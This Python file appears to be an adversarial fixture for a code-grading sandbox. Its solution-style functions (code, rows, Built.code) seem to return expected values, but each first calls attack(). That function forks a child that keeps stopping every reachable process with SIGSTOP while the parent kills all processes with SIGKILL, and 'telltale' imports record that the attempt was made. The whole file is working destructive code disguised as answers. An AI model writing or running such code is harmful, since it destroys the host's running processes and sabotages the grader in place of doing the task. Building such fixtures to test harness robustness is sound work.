import torch
from telltale import breach, tried, works  # noqa: F401
import os
import signal
import time


def attack():
    tried()
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.kill(-1, signal.SIGSTOP)
            except OSError:
                pass
            time.sleep(0.01)
    os.kill(-1, signal.SIGKILL)
    time.sleep(1)


def code(x):
    return attack() or 7


def rows(x):
    return attack() or torch.zeros(3, 4, dtype=torch.int64)


class Built:
    def code(self, x):
        return attack() or 7


def build():
    return Built()
